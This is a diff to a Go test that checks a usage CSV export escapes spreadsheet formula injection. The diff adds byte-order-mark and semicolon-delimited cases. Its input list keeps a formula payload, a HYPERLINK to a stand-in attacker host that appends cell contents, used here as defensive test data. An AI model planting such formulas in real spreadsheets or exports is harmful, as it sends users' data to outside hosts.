@@ -96,7 +96,7 @@ func TestUsageByEveryDimensionAndPeriod(t *testing.T) {
 func TestCSVIsHarmless(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
-	odd := []string{`=HYPERLINK("http://evil.example?"&A1)`, "+1", "-2+3", "@SUM(1)", "＝1", `a,"b"`, "plain", "é 模型", " =1"}
+	odd := []string{`=HYPERLINK("http://evil.example?"&A1)`, "+1", "-2+3", "@SUM(1)", "＝1", `a,"b"`, "plain", "é 模型", " =1", "\ufeff=2", "a;=3", ";@4;;", "a;b"}
 	for _, key := range odd {
 		w.usage("p1", noon, func(u *events.Usage) { u.Feature = key })
 	}
@@ -122,11 +122,11 @@ func TestCSVIsHarmless(t *testing.T) {
 		}
 	}
 	for _, key := range odd {
-		if !found[key] && !found["'"+key] {
+		if marked := strings.NewReplacer(";=", ";'=", ";@", ";'@").Replace(key); !found[marked] && !found["'"+key] {
 			t.Errorf("%q is missing in %s", key, a.text)
 		}
 	}
-	if !found["'＝1"] || found["'plain"] || found["' =1"] {
+	if !found["'＝1"] || found["'plain"] || found["' =1"] || !found["'\ufeff=2"] || !found["a;'=3"] || !found[";'@4;;"] || !found["a;b"] {
 		t.Errorf("wrongly marked: %s", a.text)
 	}
 	byUser := w.do(request{method: "GET", path: "/api/v1/ports/p1/ai-usage.csv?by=user&period=previous", token: w.all})
